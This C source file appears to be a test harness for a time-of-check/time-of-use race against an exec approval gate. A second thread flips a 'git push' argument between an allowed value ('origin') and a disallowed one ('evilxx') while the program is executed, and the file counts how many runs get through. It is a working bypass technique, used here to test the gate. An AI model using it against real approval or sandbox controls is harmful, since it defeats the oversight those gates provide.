/* The racing-argv attack on approval gates: each attempt forks a child whose
 * second thread rewrites argv[2] ("origin" <-> "evilxx") in a loop while its
 * main thread execs PROGRAM with it. The approver allows only "origin".
 * Usage: race PROGRAM N. Prints "ran=R denied=D killed=K other=O". */
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;
static char word[8] __attribute__((aligned(8))) = "origin";

/* Whole-word stores the compiler may not merge or drop. */
static void *flip(void *arg) {
    (void)arg;
    volatile unsigned long long *w = (volatile unsigned long long *)word;
    unsigned long long good = 0, bad = 0;
    memcpy(&good, "origin", 7);
    memcpy(&bad, "evilxx", 7);
    for (;;) {
        *w = bad;
        for (volatile int i = 0; i < 50; i++) {
        }
        *w = good;
        for (volatile int i = 0; i < 50; i++) {
        }
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: race PROGRAM N\n");
        return 2;
    }
    int n = atoi(argv[2]);
    int ran = 0, denied = 0, killed = 0, other = 0;
    for (int i = 0; i < n; i++) {
        pid_t pid = fork();
        if (pid == 0) {
            pthread_t t;
            pthread_create(&t, NULL, flip, NULL);
            for (volatile int spin = 0; spin < 1000; spin++) {
            }
            char *av[] = {"git", "push", word, NULL};
            execve(argv[1], av, environ);
            _exit(errno == EPERM ? 3 : 4);
        }
        int st;
        waitpid(pid, &st, 0);
        if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
            ran++;
        else if (WIFEXITED(st) && WEXITSTATUS(st) == 3)
            denied++;
        else if (WIFSIGNALED(st) && WTERMSIG(st) == SIGKILL)
            killed++;
        else
            other++;
    }
    printf("ran=%d denied=%d killed=%d other=%d\n", ran, denied, killed, other);
    return 0;
}
